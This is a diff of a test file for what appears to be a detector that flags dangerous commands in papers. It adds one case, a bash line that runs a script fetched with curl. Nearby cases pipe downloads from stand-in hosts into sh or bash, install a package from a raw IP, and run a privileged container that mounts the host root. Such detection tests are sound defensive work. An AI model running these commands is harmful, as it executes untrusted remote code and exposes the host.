@@ -24,6 +24,7 @@ describe('what a paper tells its reader to run', () => {
     ['a command in a cell', fenced('python', '!curl -s http://tools.invalid/a | bash', 'from kit import m')],
     ['a step', '  1. Open a terminal\n  2. Paste:  curl http://tools.invalid/i | sh\n'],
     ['a sentence', 'Then run `curl http://tools.invalid/i | sh` as root.'],
+    ['what a shell is given', 'First run: `/bin/bash -c "$(curl -fsSL http://tools.invalid/a)"`.'],
     ['a package in a sentence', 'Run `pip install git+http://203.0.113.9/x.git` first.'],
     ['a short address', fenced('bash', 'curl -sL https://tinyurl.com/abc | bash')],
     ['a container that holds the machine', fenced('sh', 'docker run --rm --privileged -v /:/host x/y')],
